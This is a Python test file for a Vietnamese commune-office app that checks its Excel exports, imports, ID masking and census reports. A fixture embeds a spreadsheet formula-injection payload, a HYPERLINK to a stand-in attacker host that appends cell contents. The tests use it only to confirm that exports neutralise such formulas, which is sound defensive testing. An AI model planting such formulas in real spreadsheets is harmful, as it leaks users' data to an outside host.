"""Excel exports (SPEC §7): what the workbooks contain, read back with openpyxl."""

from __future__ import annotations

from datetime import date, datetime

import pytest
from openpyxl import load_workbook

from desktop_app.domain.status import Action, Channel
from desktop_app.services import catalogue, catalogue_io, exports, stats
from desktop_app.storage.dossier_queries import DossierFilter
from desktop_app.storage.errors import UserFixableError
from desktop_app.storage.safe_write import Cancelled

from ..storage._readonly import read_only_folder
from .helpers import act, pdf, receive

KHAI_SINH = "1.001193"  # toàn trình, free
BAN_SAO = "2.000635"  # fixed 8.000 đ
CHUNG_THUC_CHU_KY = "2.000884"  # fixed 10.000 đ
WEEK = (date(2026, 3, 2), date(2026, 3, 8))
INJECTION = '=HYPERLINK("http://evil.example/?x="&A1,"Bấm vào đây")'


@pytest.fixture
def week(services_ctx, clock, tmp_path):
    ctx = services_ctx
    result = pdf(tmp_path, "kq.pdf", b"kq")
    d = {}
    d["a"] = receive(ctx, clock, datetime(2026, 3, 2, 8, 30), KHAI_SINH, channel=Channel.TRUC_TUYEN,
                     identity_checked=True, identity_method="vneid", hamlet="Xóm Đồng Bầu",
                     id_number="001085007777", notes=INJECTION, address="-12 đường Cầu Đá")
    act(ctx, clock, d["a"], datetime(2026, 3, 2, 14), Action.CO_KET_QUA, result_files=[result], result_signed=True)
    act(ctx, clock, d["a"], datetime(2026, 3, 2, 15), Action.TRA_KET_QUA, satisfaction="hai_long")
    d["b"] = receive(ctx, clock, datetime(2026, 3, 3, 9), BAN_SAO, channel=Channel.TRUC_TUYEN, fee=8000,
                     payment_method="truc_tuyen", hamlet="xom dong bau", id_number="001203004545",
                     applicant_name="Đặng Thị Ánh")
    act(ctx, clock, d["b"], datetime(2026, 3, 3, 10), Action.CO_KET_QUA, result_files=[result])
    act(ctx, clock, d["b"], datetime(2026, 3, 3, 11), Action.TRA_KET_QUA, satisfaction="rat_hai_long")
    d["c"] = receive(ctx, clock, datetime(2026, 3, 5, 9), CHUNG_THUC_CHU_KY, fee=10000, payment_method="tien_mat",
                     hamlet="Xóm Cầu Đá", id_number="001099012345", applicant_name="Trần Văn Bình",
                     phone="+84912345678", sets_count=2)
    d["d"] = receive(ctx, clock, datetime(2026, 3, 6, 10), KHAI_SINH, hamlet="Thôn Lạ", applicant_name="Lê Văn Cường",
                     id_number="001088000111", channel=Channel.TRUC_TUYEN)
    act(ctx, clock, d["d"], datetime(2026, 3, 6, 11), Action.CO_KET_QUA, result_files=[result])
    act(ctx, clock, d["d"], datetime(2026, 3, 6, 12), Action.TRA_KET_QUA, satisfaction="hai_long")
    d["outside"] = receive(ctx, clock, datetime(2026, 3, 9, 8), KHAI_SINH)
    clock.now = datetime(2026, 3, 10, 9, 0)
    return d


def _rows(sheet):
    return [list(r) for r in sheet.iter_rows(values_only=True)]


# ---------------------------------------------------------------------------- file names


def test_default_file_names_say_when_they_hold_personal_data():
    assert exports.default_file_name("dossiers", *WEEK) == "danh-sach-ho-so_2026-03-02_2026-03-08_du-lieu-ca-nhan.xlsx"
    assert exports.default_file_name("so-theo-doi", *WEEK).endswith("_du-lieu-ca-nhan.xlsx")
    assert exports.default_file_name("stats", *WEEK) == "thong-ke_2026-03-02_2026-03-08.xlsx"
    assert exports.default_file_name("mau-02", *WEEK, personal=False) == "mau-bieu-02_2026-03-02_2026-03-08.xlsx"
    assert exports.default_file_name("catalogue", None, None, False) == "danh-muc-thu-tuc.xlsx"
    assert exports.default_file_name("stats", *WEEK, personal=True).endswith("_du-lieu-ca-nhan.xlsx")


# ---------------------------------------------------------------------------- dossiers


def test_dossier_list_has_the_template_columns_dates_amounts_and_totals(services_ctx, week, tmp_path):
    path = exports.export_dossiers(services_ctx, tmp_path / "ds.xlsx", *WEEK)
    sheet = load_workbook(path)["Danh sách hồ sơ"]
    rows = _rows(sheet)
    assert tuple(rows[0]) == exports.TEMPLATE_HEADERS
    assert sheet.freeze_panes == "A2"
    col = {h: i for i, h in enumerate(exports.TEMPLATE_HEADERS)}
    data = rows[1:-1]
    assert [r[col["Mã hồ sơ"]] for r in data] == [week[k].code for k in "abcd"]
    first = sheet.cell(row=2, column=col["Ngày tiếp nhận"] + 1)
    assert first.is_date and first.value == datetime(2026, 3, 2, 8, 30)
    assert first.number_format == "dd/mm/yyyy hh:mm"
    fee = sheet.cell(row=3, column=col["Phí, lệ phí (VNĐ)"] + 1)
    assert fee.value == 8000 and fee.data_type == "n" and fee.number_format == "#,##0"
    b = data[1]
    assert b[col["Hình thức nộp"]] == "Trực tuyến"
    assert b[col["Trạng thái"]] == "Đã trả kết quả"
    assert b[col["Hình thức thanh toán"]] == "Trực tuyến"
    assert b[col["Đánh giá hài lòng"]] == "Rất hài lòng"
    assert b[col["Có tệp kết quả điện tử"]] == "Có" and b[col["Kết quả đã ký số"]] == "Không"
    assert b[col["Số định danh"]] == "001203004545"
    assert data[2][col["Số điện thoại"]] == "+84912345678"
    assert data[0][col["Đã xác thực định danh"]] == "Có"
    totals = rows[-1]
    assert totals[col["Mã hồ sơ"]] is None
    assert totals[col["Tên thủ tục"]] == "Tổng cộng: 4 hồ sơ"
    assert totals[col["Phí, lệ phí (VNĐ)"]] == 18000
    info = _rows(load_workbook(path)["Thông tin"])
    assert any("dữ liệu cá nhân" in str(r[1]) for r in info)


def test_text_starting_with_formula_characters_is_never_a_formula(services_ctx, week, tmp_path):
    path = exports.export_dossiers(services_ctx, tmp_path / "ds.xlsx", *WEEK)
    sheet = load_workbook(path).active
    col = {h: i + 1 for i, h in enumerate(exports.TEMPLATE_HEADERS)}
    notes = sheet.cell(row=2, column=col["Ghi chú"])
    assert notes.value == INJECTION
    assert notes.data_type == "s" and notes.quotePrefix
    address = sheet.cell(row=2, column=col["Địa chỉ"])
    assert address.value == "-12 đường Cầu Đá" and address.data_type == "s" and address.quotePrefix
    phone = sheet.cell(row=4, column=col["Số điện thoại"])
    assert phone.data_type == "s" and phone.quotePrefix
    for row in sheet.iter_rows():
        for cell in row:
            assert cell.data_type != "f", cell.coordinate


def test_mask_ids_shows_four_first_and_two_last_digits(services_ctx, week, tmp_path):
    path = exports.export_dossiers(services_ctx, tmp_path / "ds.xlsx", *WEEK, mask_ids=True)
    values = [v for r in _rows(load_workbook(path).active) for v in r if isinstance(v, str)]
    assert "0012******45" in values
    assert "0010******45" in values
    assert not any("001203004545" in v or "001099012345" in v for v in values)
    info = _rows(load_workbook(path)["Thông tin"])
    assert any("Đã che" in str(r[1]) for r in info)


def test_dossier_list_follows_the_list_filter(services_ctx, week, tmp_path):
    flt = DossierFilter(channel=int(Channel.TRUC_TUYEN))
    path = exports.export_dossiers(services_ctx, tmp_path / "ds.xlsx", *WEEK, flt=flt)
    codes = [r[0] for r in _rows(load_workbook(path).active)[1:-1]]
    assert codes == [week["a"].code, week["b"].code, week["d"].code]
    # without dates, the filter's own period (none: every dossier) is used
    path = exports.export_dossiers(services_ctx, tmp_path / "all.xlsx", None, None)
    assert len(_rows(load_workbook(path).active)) == 1 + 5 + 1


def test_cancel_leaves_no_file(services_ctx, week, tmp_path):
    with pytest.raises(Cancelled):
        exports.export_dossiers(services_ctx, tmp_path / "ds.xlsx", *WEEK, cancel=lambda: True)
    assert list(tmp_path.glob("*.xlsx")) == [] and not list(tmp_path.glob(".ds.xlsx*"))


def test_export_to_a_read_only_folder_is_refused_cleanly(services_ctx, week, tmp_path, monkeypatch):
    folder = tmp_path / "usb"
    with read_only_folder(folder, monkeypatch):
        with pytest.raises(UserFixableError) as caught:
            exports.export_dossiers(services_ctx, folder / "ds.xlsx", *WEEK)
        assert list(folder.iterdir()) == []
    assert caught.value.action


def test_wrong_extension_and_backwards_period_are_refused(services_ctx, tmp_path):
    with pytest.raises(UserFixableError, match=r"\.xlsx"):
        exports.export_dossiers(services_ctx, tmp_path / "ds.csv", *WEEK)
    with pytest.raises(UserFixableError, match="Ngày bắt đầu"):
        exports.export_so_theo_doi(services_ctx, tmp_path / "s.xlsx", WEEK[1], WEEK[0])


# ---------------------------------------------------------------------------- sổ theo dõi


def test_so_theo_doi_has_the_two_row_register_header(services_ctx, week, tmp_path):
    path = exports.export_so_theo_doi(services_ctx, tmp_path / "so.xlsx", *WEEK)
    sheet = load_workbook(path).active
    rows = _rows(sheet)
    assert rows[0][0] == "SỔ THEO DÕI HỒ SƠ"
    assert rows[3][:8] == ["STT", "Mã hồ sơ", "Nội dung hồ sơ", "Số lượng (bộ)", "Họ tên chủ hồ sơ",
                           "Địa chỉ chủ hồ sơ", "Số điện thoại", "Ngày, tháng, năm"]
    assert rows[3][9] == "Trả kết quả"
    assert rows[4][7:12] == ["Nhận hồ sơ", "Hẹn trả kết quả", "Ngày nhận kết quả", "Bên giao", "Bên nhận"]
    assert rows[3][12:] == ["Người nhận hồ sơ", "Địa bàn phát sinh hồ sơ", "Ghi chú"]
    merged = {str(r) for r in sheet.merged_cells.ranges}
    assert {"H4:I4", "J4:L4", "A4:A5", "O4:O5"} <= merged
    assert sheet.freeze_panes == "A6"
    data = rows[5:-1]
    assert [r[1] for r in data] == [week[k].code for k in "abcd"]
    b = data[1]
    assert b[0] == 2 and b[2] == week["b"].procedure.name
    assert b[9] == datetime(2026, 3, 3, 11) and b[10] == "Nguyễn Thị Lan" and b[11] == "Đặng Thị Ánh"
    assert data[2][9] is None and data[2][10] is None  # not returned yet
    assert rows[-1][1] == "Tổng cộng" and rows[-1][3] == 1 + 1 + 2 + 1


# ---------------------------------------------------------------------------- Mẫu biểu 02


def test_mau_02_per_hamlet_with_census_and_dossier_figures(services_ctx, week, tmp_path):
    ctx = services_ctx
    exports.set_hamlet_census(ctx, "xom dong bau", households=420, population=1630, people_with_vneid=1210,
                              people_without_vneid=300)
    exports.set_hamlet_census(ctx, "Xóm Cầu Đá", households=210, population=800)
    path = exports.export_mau_02(ctx, tmp_path / "m.xlsx", *WEEK)
    sheet = load_workbook(path).active
    rows = _rows(sheet)
    header = rows[4]
    assert header == ["STT", "Xóm", "Số hộ", "Số khẩu", "Người có VNeID", "Người chưa có", "Hồ sơ DVC trực tuyến",
                      "Hồ sơ có kết quả điện tử", "Hộ đã đánh giá hài lòng", "Ghi chú"]
    assert sheet.freeze_panes == "A6"
    body = {r[1]: r for r in rows[5:8]}
    # a and b (written "xom dong bau") belong to Xóm Đồng Bầu: both online, both with a result file,
    # both satisfied, by two different people
    assert body["Xóm Đồng Bầu"][2:9] == [420, 1630, 1210, 300, 2, 2, 2]
    assert body["Xóm Cầu Đá"][2:9] == [210, 800, None, None, 0, 0, 0]
    other = body["Khác"]
    assert other[6:9] == [1, 1, 1] and "Thôn Lạ" in other[9]
    totals = rows[8]
    assert totals[1] == "Tổng cộng" and totals[2:9] == [630, 2430, 1210, 300, 3, 3, 3]


def test_hamlet_census_is_checked(services_ctx):
    with pytest.raises(UserFixableError, match="không được âm"):
        exports.set_hamlet_census(services_ctx, "Xóm Đồng Bầu", households=-1)
    with pytest.raises(UserFixableError, match="lớn hơn số khẩu"):
        exports.set_hamlet_census(services_ctx, "Xóm Đồng Bầu", population=10, people_with_vneid=8,
                                  people_without_vneid=5)
    with pytest.raises(UserFixableError, match="Không có thôn/xóm"):
        exports.set_hamlet_census(services_ctx, "Xóm Không Có", households=1)
    assert exports.hamlet_census(services_ctx)[0].households is None


def test_hamlet_census_of_several_hamlets_is_saved_all_or_nothing(services_ctx):
    with pytest.raises(UserFixableError, match="Không có thôn/xóm “Xóm Không Có”"):
        exports.set_hamlet_censuses(services_ctx, [("Xóm Đồng Bầu", {"households": 420, "population": 1630}),
                                                   ("Xóm Không Có", {"households": 1})])
    with pytest.raises(UserFixableError, match="Xóm Cầu Đá: số người có và chưa có VNeID"):
        exports.set_hamlet_censuses(services_ctx, [("Xóm Đồng Bầu", {"households": 420}),
                                                   ("Xóm Cầu Đá", {"population": 5, "people_with_vneid": 4,
                                                                   "people_without_vneid": 2})])
    assert all(h.households is None for h in exports.hamlet_census(services_ctx))
    saved = exports.set_hamlet_censuses(services_ctx, [("xom dong bau", {"households": 420, "population": 1630}),
                                                       ("Xóm Cầu Đá", {"households": 210})])
    assert [(h.name, h.households, h.population) for h in saved] == [
        ("Xóm Đồng Bầu", 420, 1630), ("Xóm Cầu Đá", 210, None)]
    assert [(h.households, h.population) for h in exports.hamlet_census(services_ctx)][:2] == [
        (420, 1630), (210, None)]


# ---------------------------------------------------------------------------- statistics


def test_stats_workbook_holds_the_figures_of_stats_compute(services_ctx, week, tmp_path):
    path = exports.export_stats(services_ctx, tmp_path / "tk.xlsx", *WEEK)
    workbook = load_workbook(path)
    expected = stats.compute(services_ctx, *WEEK)
    counts = {r[1]: r[2] for r in _rows(workbook["Số lượng"])[4:]}
    assert counts["Hồ sơ tiếp nhận trong kỳ"] == expected.counts.counts["received"] == 4
    assert counts["— Trực tuyến"] == 3
    indicators = _rows(workbook["Chỉ số 766"])
    assert indicators[3][:7] == ["Nhóm", "Chỉ số", "Tử số", "Mẫu số", "Tỷ lệ (%)", "Điểm", "Tối đa"]
    body = indicators[4:-1]
    assert [(r[2], r[3]) for r in body] == [(i.numerator, i.denominator) for i in expected.card.indicators]
    assert indicators[-1][0] == "Tổng cộng"
    assert indicators[-1][5] == pytest.approx(float(expected.card.total))
    weeks = _rows(workbook["Theo tuần"])
    assert weeks[4][0].startswith("Tuần 10/2026") and weeks[4][3] == 4
    assert weeks[-1][0] == "Tổng cộng" and weeks[-1][3] == 4


def test_long_periods_are_split_by_month(services_ctx, week, tmp_path):
    path = exports.export_stats(services_ctx, tmp_path / "tk.xlsx", date(2026, 1, 1), date(2026, 3, 31))
    months = _rows(load_workbook(path)["Theo tháng"])
    assert [r[0] for r in months[4:7]] == ["Tháng 01/2026", "Tháng 02/2026", "Tháng 03/2026"]
    assert months[6][3] == 5 and months[-1][3] == 5


# ---------------------------------------------------------------------------- catalogue round trip


def test_catalogue_exports_and_imports_back(services_ctx, tmp_path):
    ctx = services_ctx
    path = exports.export_catalogue(ctx, tmp_path / "dm.xlsx")
    before = {p.code: p for p in catalogue.list_procedures(ctx, include_inactive=True)}
    assert catalogue_io.import_catalogue(ctx, path).as_json() == {"added": 0, "updated": 0,
                                                                 "unchanged": len(before)}
    workbook = load_workbook(path)
    sheet = workbook["Danh mục thủ tục"]
    header = [c.value for c in sheet[1]]
    code_col, fee_col = header.index("Mã TTHC"), header.index("Mức phí (VNĐ)")
    row = next(r for r in sheet.iter_rows(min_row=2) if r[code_col].value == BAN_SAO)
    row[fee_col].value = 9000
    sheet.append(["9.999999", "=Thủ tục thử nghiệm", "Thử", 5, "ngày làm việc", "Không", "Miễn phí", 0, 0, 0, 0,
                  "", "Có", "Có", "Không"])
    sheet.cell(row=sheet.max_row, column=2).data_type = "s"
    workbook["Thành phần hồ sơ"].append(["9.999999", 1, "Tờ khai", "Bản chính", 1, "Có"])
    workbook.save(path)
    result = catalogue_io.import_catalogue(ctx, path)
    assert result.as_json() == {"added": 1, "updated": 1, "unchanged": len(before) - 1}
    after = {p.code: p for p in catalogue.list_procedures(ctx, include_inactive=True)}
    assert after[BAN_SAO].fee_rule.amount == 9000
    assert after["9.999999"].name == "=Thủ tục thử nghiệm" and not after["9.999999"].active
    assert [c.name for c in after["9.999999"].components] == ["Tờ khai"]
    assert [c.name for c in after[KHAI_SINH].components] == [c.name for c in before[KHAI_SINH].components]
    # the same file again changes nothing
    assert catalogue_io.import_catalogue(ctx, path).as_json()["unchanged"] == len(before) + 1


def test_bad_catalogue_file_changes_nothing(services_ctx, tmp_path):
    ctx = services_ctx
    path = exports.export_catalogue(ctx, tmp_path / "dm.xlsx")
    workbook = load_workbook(path)
    sheet = workbook["Danh mục thủ tục"]
    sheet.cell(row=2, column=5).value = "tuần trăng"  # unknown unit
    sheet.cell(row=3, column=4).value = -1
    workbook.save(path)
    before = catalogue.list_procedures(ctx, include_inactive=True)
    with pytest.raises(catalogue_io.CatalogueFileError) as caught:
        catalogue_io.import_catalogue(ctx, path)
    assert "Dòng 2" in caught.value.message and "tuần trăng" in caught.value.message
    assert "Dòng 3" in caught.value.message
    assert catalogue.list_procedures(ctx, include_inactive=True) == before
    # a file without the "Mã TTHC" column names it
    workbook = load_workbook(path)
    workbook["Danh mục thủ tục"].delete_cols(1)
    workbook.save(path)
    with pytest.raises(catalogue_io.CatalogueFileError, match="Mã TTHC"):
        catalogue_io.import_catalogue(ctx, path)
    text = tmp_path / "text.xlsx"
    text.write_text("not a workbook", encoding="utf-8")
    with pytest.raises(catalogue_io.CatalogueFileError, match="không phải tệp Excel"):
        catalogue_io.import_catalogue(ctx, text)


# ---------------------------------------------------------------------------- dossier round trip


def test_export_then_import_gives_the_same_dossiers(services_ctx, week, tmp_path, clock):
    from desktop_app.services import imports, setup
    from desktop_app.services.context import open_database

    first = exports.export_dossiers(services_ctx, tmp_path / "ds.xlsx", *WEEK)
    target = open_database(str(tmp_path / "other.sqlite3"), clock=clock)
    try:
        setup.save_profile(target, setup.ProfileInput(unit_name="UBND xã Phú Lạc", unit_code="000.00.53.H48",
                                                      place_name="Phú Lạc"))
        setup.save_officer(target, "lan.nt", "Nguyễn Thị Lan", "quan_tri")
        result = imports.import_file(target, first)
        assert result.as_json() == {"added": 4, "updated": 0, "unchanged": 0, "rejected": []}
        again = exports.export_dossiers(target, tmp_path / "again.xlsx", *WEEK)
        assert imports.import_file(target, first).as_json()["unchanged"] == 4
    finally:
        target.dispose()
    original = _rows(load_workbook(first).active)
    copied = _rows(load_workbook(again).active)
    assert copied == original
